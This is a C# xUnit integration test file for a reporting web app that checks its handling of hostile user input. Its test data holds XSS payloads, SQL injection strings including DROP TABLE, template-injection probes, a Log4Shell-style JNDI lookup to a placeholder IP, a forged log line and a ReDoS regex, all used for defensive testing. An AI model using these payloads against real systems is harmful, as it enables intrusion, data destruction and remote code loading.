using System.Net;
using System.Text.Encodings.Web;
using BazhongTracker.Domain;
using BazhongTracker.Domain.Reporting;
using BazhongTracker.Integration.Tests.Access;
using BazhongTracker.Web.Features.Reporting;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Xunit;

namespace BazhongTracker.Integration.Tests;

/// <summary>What people should not type, in the fields they can type into.</summary>
public sealed class HostileTextTests(PeopledServer server) : IClassFixture<PeopledServer>, IAsyncLifetime
{
    private static readonly CancellationToken None = CancellationToken.None;

    public ValueTask InitializeAsync() => new(server.NoFigures());

    public ValueTask DisposeAsync() => ValueTask.CompletedTask;

    private async Task<string> Submitted(string? text, string? note = null)
    {
        await using var scope = server.App.Services.CreateAsyncScope();
        return await scope.ServiceProvider.GetRequiredService<SubmitFigure>().Run(
            new FigureForm(Guid.NewGuid().ToString(), server.OwnTarget.Code, PeopledServer.Open, text, null, note), PeopledServer.ActorOf(RoleNames.Clerk), None);
    }

    private async Task<List<ReportedFigure>> Stored()
    {
        await using var db = await server.Database.Contexts.CreateDbContextAsync(None);
        return await db.Figures.AsNoTracking().ToListAsync(None);
    }

    [Theory]
    [InlineData("NaN")]
    [InlineData("Infinity")]
    [InlineData("-Infinity")]
    [InlineData("1e400")]
    [InlineData("∞")]
    [InlineData("十二")]
    [InlineData("٣")]
    [InlineData("0x10")]
    [InlineData("1_000")]
    [InlineData("+5")]
    [InlineData("1e3")]
    [InlineData("12万头牛")]
    [InlineData("")]
    [InlineData("　")]
    [InlineData("—")]
    [InlineData("缺")]
    [InlineData("#N/A")]
    [InlineData("99999999999999999999999999999999999999999")]
    public async Task What_is_no_number_is_refused_and_nothing_is_stored(string text)
    {
        await Assert.ThrowsAsync<RuleViolation>(() => Submitted(text));
        Assert.Empty(await Stored());
    }

    [Theory]
    [InlineData("a\u0000b")]
    [InlineData("巴中\u202Egnp.xlsx")]
    public async Task A_note_that_hides_something_is_refused_and_nothing_is_stored(string note)
    {
        await Assert.ThrowsAsync<RuleViolation>(() => Submitted("12.5", note));
        Assert.Empty(await Stored());
    }

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("\"><img src=x onerror=alert(1)>")]
    [InlineData("<svg/onload=alert(1)>")]
    [InlineData("</textarea><script>alert(1)</script>")]
    [InlineData("javascript:alert(1)")]
    [InlineData("{{7*7}} ${7*7} @(1+1)")]
    [InlineData("' OR '1'='1")]
    [InlineData("'; DROP TABLE \"Figures\";--")]
    [InlineData("{0} {1} %s%n ${jndi:ldap://203.0.113.1/a}")]
    [InlineData("𠮷𬭎㛃䶮𰻝\uE000👨‍👩‍👧e\u0301")]
    public async Task A_note_is_kept_to_the_letter_and_shown_as_text_wherever_it_is_shown(string note)
    {
        await Submitted("12.5", note);
        Assert.Equal(note, Assert.Single(await Stored()).Note);

        var shown = HtmlEncoder.Default.Encode(note);
        foreach (var path in new[] { $"/targets/{server.OwnTarget.Code}", "/my-figures" })
        {
            using var answer = await server["clerk"].Get(path, "text/html");
            var page = await answer.Content.ReadAsStringAsync(None);
            Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
            Assert.True(shown == note || !page.Contains(note, StringComparison.Ordinal), path);
        }

        using var api = await server["clerk"].Get($"/api/v1/targets/{server.OwnTarget.Code}/figures");
        Assert.Contains(note, System.Text.Json.Nodes.JsonNode.Parse(await api.Content.ReadAsStringAsync(None))!.AsArray().Select(f => (string?)f!["note"]));
        Assert.Equal("application/json", api.Content.Headers.ContentType!.MediaType);
    }

    [Theory]
    [InlineData("' OR '1'='1")]
    [InlineData("'; DROP TABLE figure;--")]
    [InlineData("100%_")]
    [InlineData("%")]
    [InlineData("_")]
    [InlineData("\\")]
    [InlineData("(a+)+$")]
    [InlineData("x\r\n2026-11-23 login.ok user=admin")]
    [InlineData("{0} {1}")]
    [InlineData("<blink>")]
    [InlineData("a\u0000b")]
    public async Task The_ledger_looks_for_what_was_typed_and_for_nothing_else(string term)
    {
        using var answer = await server["clerk"].Get($"/targets?q={Uri.EscapeDataString(term)}", "text/html");
        var page = await answer.Content.ReadAsStringAsync(None);

        Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
        Assert.DoesNotContain("<blink>", page, StringComparison.Ordinal);
        if (term is not ("%" or "_" or "\\"))
        {
            Assert.DoesNotContain("/targets/06-08", page, StringComparison.Ordinal);
        }
    }
}
